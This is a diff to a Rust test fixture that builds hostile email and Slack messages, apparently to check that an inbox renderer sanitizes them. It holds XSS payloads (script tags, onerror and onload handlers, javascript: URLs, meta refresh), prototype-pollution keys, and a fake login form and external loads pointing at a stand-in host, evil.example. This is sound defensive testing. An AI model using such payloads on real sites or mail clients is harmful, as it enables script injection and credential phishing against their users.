@@ -144,32 +144,32 @@ const BLOCKS: &str = r##"{"channel":"C0123","text":"Order 1017 needs a look","bl
  {"type":"context","elements":[{"type":"mrkdwn","text":"from <https://example.com|the shop> for <#C0123|sales>, <!here>"}]},
  {"type":"rich_text","elements":[]}]}"##;
 
-/// Everything a mail can try. Any success sets the title, or an attribute, to `PWNED`.
+/// Everything a mail can try. Any script that runs sets `PWNED` in the top window.
 pub(crate) fn hostile_mail(inbox: &Inbox) -> u64 {
-    mail(inbox, "\"><img src=x onerror=document.title='PWNED'>@example.com", HOSTILE)
+    mail(inbox, "\"><img src=x onerror=top.PWNED=1>@example.com", HOSTILE)
 }
 
-const HOSTILE: &str = r#"From: "<script>document.title='PWNED'</script>" <eve@example.com>
-To: <img/src=x/onerror=document.title='PWNED'>
-Subject: <img src=x onerror="document.title='PWNED'"><script>document.title='PWNED'</script>
-X-Hostile: <svg onload=document.title='PWNED'>
+const HOSTILE: &str = r#"From: "<script>top.PWNED=1</script>" <eve@example.com>
+To: <img/src=x/onerror=top.PWNED=1>
+Subject: <img src=x onerror="top.PWNED=1"><script>top.PWNED=1</script>
+X-Hostile: <svg onload=top.PWNED=1>
 MIME-Version: 1.0
 Content-Type: multipart/mixed; boundary=b
 
 --b
 Content-Type: text/html; charset=utf-8
 
-</iframe><script>document.title='PWNED';top.document.title='PWNED';parent.document.body.dataset.pwned='PWNED'</script>
-<img src=x onerror="top.document.title='PWNED'"><svg onload="top.document.title='PWNED'"></svg>
-<meta http-equiv=refresh content="0;url=javascript:top.document.title='PWNED'">
+</iframe><script>top.PWNED=1;top.PWNED=1;parent.PWNED=1</script>
+<img src=x onerror="top.PWNED=1"><svg onload="top.PWNED=1"></svg>
+<meta http-equiv=refresh content="0;url=javascript:top.PWNED=1">
 <base href="https://evil.example/"><form action="https://evil.example/"><button autofocus>Log in</button></form>
-<iframe src="javascript:top.document.title='PWNED'"></iframe><object data="https://evil.example/x"></object>
+<iframe src="javascript:top.PWNED=1"></iframe><object data="https://evil.example/x"></object>
 <link rel=stylesheet href="https://evil.example/x.css"><p>Hello from Eve</p>
 --b
-Content-Type: text/html; name="\"><script>document.title='PWNED'</script>.html"
-Content-Disposition: attachment; filename="\"><script>document.title='PWNED'</script>.html"
+Content-Type: text/html; name="\"><script>top.PWNED=1</script>.html"
+Content-Disposition: attachment; filename="\"><script>top.PWNED=1</script>.html"
 
-<script>document.title='PWNED'</script>
+<script>top.PWNED=1</script>
 --b--
 "#;
 
@@ -177,10 +177,10 @@ Content-Disposition: attachment; filename="\"><script>document.title='PWNED'</sc
 pub(crate) fn hostile_slack(inbox: &Inbox) -> u64 {
     slack(
         inbox,
-        "<img src=x onerror=document.title='PWNED'>",
-        r#"{"text":"<javascript:document.title='PWNED'|click> <img src=x onerror=document.title='PWNED'> &lt;script&gt;","username":"<b>eve</b>",
-           "blocks":[{"type":"section","text":{"type":"mrkdwn","text":"<script>document.title='PWNED'</script> <javascript:alert(1)|here>"},
-           "accessory":{"type":"button","text":{"type":"plain_text","text":"<img src=x onerror=document.title='PWNED'>"},"url":"javascript:document.title='PWNED'"}},
+        "<img src=x onerror=top.PWNED=1>",
+        r#"{"text":"<javascript:top.PWNED=1|click> <img src=x onerror=top.PWNED=1> &lt;script&gt;","username":"<b>eve</b>",
+           "blocks":[{"type":"section","text":{"type":"mrkdwn","text":"<script>top.PWNED=1</script> <javascript:alert(1)|here>"},
+           "accessory":{"type":"button","text":{"type":"plain_text","text":"<img src=x onerror=top.PWNED=1>"},"url":"javascript:top.PWNED=1"}},
            {"type":"__proto__"},{"type":"constructor"},{"type":"section"},{"type":"actions","elements":[null,7]}]}"#,
     )
 }
